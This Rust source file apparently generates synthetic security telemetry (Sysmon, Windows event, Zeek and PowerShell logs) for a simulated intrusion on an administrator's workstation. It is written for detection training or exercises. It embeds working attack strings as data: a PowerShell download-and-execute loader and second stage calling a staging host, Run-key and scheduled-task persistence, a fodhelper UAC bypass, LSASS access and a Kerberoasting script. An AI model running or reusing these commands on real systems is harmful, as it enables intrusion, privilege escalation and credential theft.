//! The attack on the administrator's workstation.

use serde_json::json;

use super::{
    ADMIN_HOST, ADMIN_IP, COMMAND, COMMAND_NAME, IMPLANT, STAGING, STAGING_NAME, known, network,
};
use crate::day::Day;
use crate::day::clock::{MINUTE, Moment, SECOND};
use crate::day::company::{DC, PROXY};
use crate::day::security::{self, Account, Logon};
use crate::day::sysmon::{self, Process, Start};
use crate::day::{powershell, zeek};

const USER: &str = "CORP\\markus.brandt";
const SHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const HOME: &str = "C:\\Users\\markus.brandt\\";

/// What the macro runs.
fn loader() -> String {
    format!(
        "$w=New-Object Net.WebClient;$w.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;IEX ($w.DownloadString('http://{STAGING_NAME}/a/theme.ps1'))"
    )
}

/// What the loader fetches.
fn second_stage() -> String {
    format!(
        "$d=\"$env:APPDATA\\Adobe\"; New-Item -ItemType Directory -Force $d | Out-Null\n$w=New-Object Net.WebClient; $w.DownloadFile('http://{STAGING}/a/armsync.exe', \"$d\\armsync.exe\")\nStart-Process -WindowStyle Hidden \"$d\\armsync.exe\"\nNew-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name AdobeSync -Value \"$d\\armsync.exe\" -Force | Out-Null"
    )
}

pub(super) fn admin_console(day: &mut Day, at: u64) {
    let markus = day.company.find("markus.brandt");
    let admin = Account::service("adm.brandt", 5_204);
    let data = json!({"SubjectUserSid": markus.sid, "SubjectUserName": markus.login, "SubjectDomainName": "CORP", "SubjectLogonId": "0x4c1a9e",
        "LogonGuid": "{00000000-0000-0000-0000-000000000000}", "TargetUserName": admin.name, "TargetDomainName": "CORP",
        "TargetLogonGuid": "{00000000-0000-0000-0000-000000000000}", "TargetServerName": "localhost", "TargetInfo": "localhost",
        "ProcessId": "0xf2c", "ProcessName": "C:\\Windows\\System32\\svchost.exe", "IpAddress": "::1", "IpPort": "0"});
    security::event(day, at, ADMIN_HOST, 4_648, true, &data);
    security::ticket_granting(day, at, &admin, ADMIN_IP);
    let how = Logon { kind: 2, ip: "::1", station: "WS-105", package: "Negotiate" };
    let logon = security::logon(day, at + SECOND, ADMIN_HOST, &admin, &how);
    security::privileges(day, at + SECOND, ADMIN_HOST, &admin, &logon);
}

fn begin(day: &mut Day, at: u64, parent: &Process, image: &str, command: &str) -> Process {
    sysmon::start(
        day,
        at,
        parent,
        &Start { host: ADMIN_HOST, user: USER, image, command, integrity: "Medium", folder: HOME },
    )
}

/// PowerShell that Word started.
fn shell() -> Process {
    let command = format!("powershell.exe -nop -w hidden -enc {}", encoded(&loader()));
    Process { command, ..known("83b46b0e-c9c9-69a5-9d01-000000004100", 8_412, SHELL, USER) }
}

/// The implant as it is first started.
fn implant() -> Process {
    known("83b46b0e-c9d7-69a5-a201-000000004100", 9_036, IMPLANT, USER)
}

/// The implant with full rights.
fn elevated() -> Process {
    known("83b46b0e-cfb2-69a5-3c02-000000004100", 11_220, IMPLANT, USER)
}

pub(super) fn document(day: &mut Day, start: u64) {
    let explorer =
        sysmon::running(day, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", USER);
    let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let command = format!("\"{word}\" /n \"{HOME}Downloads\\Budget_2026_Q1.docm\" /o \"\"");
    let word = begin(day, start + 4 * SECOND, &explorer, word, &command);
    sysmon::image(
        day,
        start + 9 * SECOND,
        ADMIN_HOST,
        &word,
        "C:\\Program Files\\Microsoft Office\\root\\vfs\\ProgramFilesCommonX64\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL",
    );
    let shell = shell();
    let what = Start {
        host: ADMIN_HOST,
        user: USER,
        image: SHELL,
        command: &shell.command,
        integrity: "Medium",
        folder: HOME,
    };
    sysmon::start_as(day, start + 41 * SECOND, &word, &what, &shell);
    download(day, start, &shell);
    first_call(day, start + 55 * SECOND, &shell);
}

/// The loader, by name; then the implant, from the bare address.
fn download(day: &mut Day, start: Moment, shell: &Process) {
    let markus = day.company.find("markus.brandt");
    powershell::block(day, start + 42 * SECOND, ADMIN_HOST, &markus.sid, "", &loader());
    sysmon::query(
        day,
        start + 43 * SECOND,
        ADMIN_HOST,
        shell,
        STAGING_NAME,
        &format!("::ffff:{STAGING};"),
    );
    zeek::lookup(day, start + 43 * SECOND, ADMIN_IP, DC.ip, (1, "A"), STAGING_NAME, STAGING);
    sysmon::connection(
        day,
        start + 44 * SECOND,
        ADMIN_HOST,
        shell,
        ADMIN_IP,
        (PROXY, "prx01.corp.example", 3_128),
    );
    network::fetched(
        day,
        start + 44 * SECOND,
        &format!("http://{STAGING_NAME}/a/theme.ps1"),
        "text/plain",
        2_911,
    );
    powershell::block(day, start + 46 * SECOND, ADMIN_HOST, &markus.sid, "", &second_stage());
    network::fetched(
        day,
        start + 49 * SECOND,
        &format!("http://{STAGING}/a/armsync.exe"),
        "application/x-msdownload",
        481_792,
    );
    sysmon::file(day, start + 50 * SECOND, ADMIN_HOST, shell, IMPLANT);
}

/// The implant starts and finds its command server.
fn first_call(day: &mut Day, start: Moment, shell: &Process) {
    let implant = implant();
    let what = Start {
        host: ADMIN_HOST,
        user: USER,
        image: IMPLANT,
        command: &implant.command,
        integrity: "Medium",
        folder: HOME,
    };
    sysmon::start_as(day, start, shell, &what, &implant);
    sysmon::query(
        day,
        start + 2 * SECOND,
        ADMIN_HOST,
        &implant,
        COMMAND_NAME,
        &format!("::ffff:{COMMAND};"),
    );
    zeek::lookup(day, start + 2 * SECOND, ADMIN_IP, DC.ip, (1, "A"), COMMAND_NAME, COMMAND);
    sysmon::connection(
        day,
        start + 3 * SECOND,
        ADMIN_HOST,
        &implant,
        ADMIN_IP,
        (COMMAND, COMMAND_NAME, 443),
    );
}

pub(super) fn persistence(day: &mut Day, start: u64) {
    let markus = day.company.find("markus.brandt");
    let shell = shell();
    let key = format!(
        "HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\AdobeSync",
        markus.sid
    );
    sysmon::registry(day, start, ADMIN_HOST, &shell, &key, IMPLANT);
    let implant = implant();
    let command = format!(
        "schtasks /create /f /sc minute /mo 30 /tn \"Adobe\\Sync Service\" /tr \"{IMPLANT}\""
    );
    begin(day, start + 22 * SECOND, &implant, "C:\\Windows\\System32\\schtasks.exe", &command);
    security::task(
        day,
        start + 23 * SECOND,
        ADMIN_HOST,
        &Account::of(&markus),
        "\\Adobe\\Sync Service",
        (IMPLANT, ""),
    );
    let path = "C:\\Windows\\System32\\Tasks\\Adobe\\Sync Service";
    let scheduler = sysmon::running(
        day,
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "NT AUTHORITY\\SYSTEM",
    );
    sysmon::file(day, start + 23 * SECOND, ADMIN_HOST, &scheduler, path);
}

pub(super) fn discovery(day: &mut Day, start: u64) {
    let implant = implant();
    let commands = [
        ("whoami.exe", "whoami /all"),
        ("ipconfig.exe", "ipconfig /all"),
        ("systeminfo.exe", "systeminfo"),
        ("net.exe", "net group \"Domain Admins\" /domain"),
        ("net.exe", "net user adm.brandt /domain"),
        ("nltest.exe", "nltest /domain_trusts /all_trusts"),
        ("quser.exe", "quser"),
        ("tasklist.exe", "tasklist /v"),
        ("net.exe", "net view \\\\fs01 /all"),
        ("arp.exe", "arp -a"),
    ];
    for (n, (name, command)) in (0..).zip(commands) {
        let at = start + n * 19 * SECOND + day.random.below(6 * SECOND);
        let shell = begin(
            day,
            at,
            &implant,
            "C:\\Windows\\System32\\cmd.exe",
            &format!("C:\\Windows\\system32\\cmd.exe /c {command}"),
        );
        begin(day, at + 120, &shell, &format!("C:\\Windows\\System32\\{name}"), command);
    }
    for at in [start + 64 * SECOND, start + 83 * SECOND] {
        zeek::connection(
            day,
            at,
            &zeek::Flow {
                from: ADMIN_IP,
                to: DC.ip,
                port: 445,
                proto: "tcp",
                service: "gssapi,smb,dce_rpc",
                duration: 310,
                sent: 4_911,
                received: 6_204,
            },
        );
    }
}

pub(super) fn elevation(day: &mut Day, start: u64) {
    let markus = day.company.find("markus.brandt");
    let implant = implant();
    let key = format!("HKU\\{}_Classes\\ms-settings\\shell\\open\\command", markus.sid);
    sysmon::registry(day, start, ADMIN_HOST, &implant, &format!("{key}\\(Default)"), IMPLANT);
    sysmon::registry(
        day,
        start + 200,
        ADMIN_HOST,
        &implant,
        &format!("{key}\\DelegateExecute"),
        "(Empty)",
    );
    let image = "C:\\Windows\\System32\\fodhelper.exe";
    let what = Start {
        host: ADMIN_HOST,
        user: USER,
        image,
        command: "fodhelper.exe",
        integrity: "High",
        folder: HOME,
    };
    let fodhelper = sysmon::start(day, start + 2 * SECOND, &implant, &what);
    let elevated = elevated();
    let what = Start { image: IMPLANT, command: &elevated.command, ..what };
    sysmon::start_as(day, start + 2_600, &fodhelper, &what, &elevated);
    sysmon::end(day, start + 4 * SECOND, ADMIN_HOST, &fodhelper);
}

pub(super) fn credentials(day: &mut Day, at: u64) {
    let implant = elevated();
    let lsass = sysmon::running(
        day,
        "C:\\Windows\\System32\\lsass.exe",
        "C:\\Windows\\system32\\lsass.exe",
        "NT AUTHORITY\\SYSTEM",
    );
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2f0ce|UNKNOWN(000001F4C0A51E22)";
    for n in 0..3 {
        sysmon::access(day, at + n * 400, ADMIN_HOST, &implant, &lsass, "0x1010", trace);
    }
}

pub(super) fn kerberoast(day: &mut Day, start: u64) {
    let markus = day.company.find("markus.brandt");
    let text = "$s=New-Object DirectoryServices.DirectorySearcher([ADSI]'LDAP://DC=corp,DC=example')\n$s.Filter='(&(objectCategory=person)(servicePrincipalName=*)(!(samAccountName=krbtgt)))'\n$s.FindAll() | % { Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_.Properties['serviceprincipalname'][0] }";
    powershell::block(day, start, ADMIN_HOST, &markus.sid, "", text);
    let flow = zeek::Flow {
        from: ADMIN_IP,
        to: DC.ip,
        port: 389,
        proto: "tcp",
        service: "gssapi,ldap",
        duration: 2_100,
        sent: 3_871,
        received: 88_210,
    };
    zeek::connection(day, start + SECOND, &flow);
    let who = Account::of(&markus);
    let names = [
        "svc-docstore",
        "svc-sql",
        "svc-report",
        "svc-scanner",
        "svc-intranet",
        "svc-backup",
        "svc-print",
        "svc-erp",
    ];
    for (n, name) in (0..).zip(names) {
        let service = Account::service(name, 5_110 + n);
        security::service_ticket(
            day,
            start + 4 * SECOND + n * 600,
            &who,
            ADMIN_IP,
            &service,
            "0x17",
        );
        let flow = zeek::Flow {
            from: ADMIN_IP,
            to: DC.ip,
            port: 88,
            proto: "tcp",
            service: "krb_tcp",
            duration: 9,
            sent: 1_498,
            received: 1_561,
        };
        zeek::connection(day, start + 4 * SECOND + n * 600, &flow);
    }
    powershell::block(
        day,
        start + 2 * MINUTE,
        ADMIN_HOST,
        &markus.sid,
        "",
        "klist | Out-File $env:TEMP\\k.txt",
    );
}

/// Base64 of UTF-16, little end first: what `-EncodedCommand` takes.
fn encoded(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let word = chunk.iter().fold(0_u32, |word, byte| word << 8 | u32::from(*byte))
            << (8 * (3 - chunk.len()));
        for n in 0..4 {
            let letter = ALPHABET[(word >> (18 - 6 * n) & 63) as usize];
            out.push(if n <= chunk.len() { char::from(letter) } else { '=' });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn encodes_as_powershell_expects() {
        assert_eq!(super::encoded("dir"), "ZABpAHIA");
        assert_eq!(super::encoded("a"), "YQA=");
    }
}
